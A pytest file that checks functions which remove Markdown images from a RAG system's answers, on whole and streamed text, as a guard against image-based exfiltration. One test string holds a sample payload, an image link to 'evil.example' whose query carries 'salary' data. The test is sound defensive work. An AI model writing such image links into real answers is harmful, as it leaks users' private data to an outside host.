"""Markdown images taken out of answers: whole, and however a stream cuts them."""

from __future__ import annotations

import pytest

from rag.text.images import drop_images, without_images

TEXTS = [
    'Paid weekly ![a](https://evil.example/x?d=salary) [1].',
    'See ![the plan](<https://x.example/p.png> "Plan") and ![](http://y.example/1.gif)!',
    "Wow! It works [2]. ![",
    "An ![unclosed alt text that never ends",
    "A link [here](https://example.com) stays, and so does ![alt] alone.",
    "Costs $5! Really!! ![x](u)",
]


@pytest.mark.parametrize(("text", "expected"), [
    (TEXTS[0], "Paid weekly a [1]."),
    (TEXTS[1], "See the plan and !"),
    (TEXTS[4], TEXTS[4]),
    (TEXTS[5], "Costs $5! Really!! x"),
])
def test_an_image_becomes_its_alt_text_and_a_link_stays(text: str, expected: str) -> None:
    assert drop_images(text) == expected


@pytest.mark.parametrize("text", TEXTS)
def test_a_stream_cut_anywhere_gives_what_the_whole_text_gives(text: str) -> None:
    for size in (1, 2, 3, 7):
        pieces = [text[i:i + size] for i in range(0, len(text), size)]
        assert "".join(without_images(iter(pieces))) == drop_images(text)
    for cut in range(len(text) + 1):
        assert "".join(without_images(iter([text[:cut], text[cut:]]))) == drop_images(text)


def test_text_is_let_through_as_soon_as_no_image_can_begin_in_it() -> None:
    shown = []
    stream = without_images(iter(["Wow! It ", "works ![", "a](u", ") done"]))
    shown.append(next(stream))
    assert shown == ["Wow! It "]  # a "!" followed by a space begins nothing
    assert next(stream) == "works "  # "![" may: held back
    assert "".join(stream) == "a done"
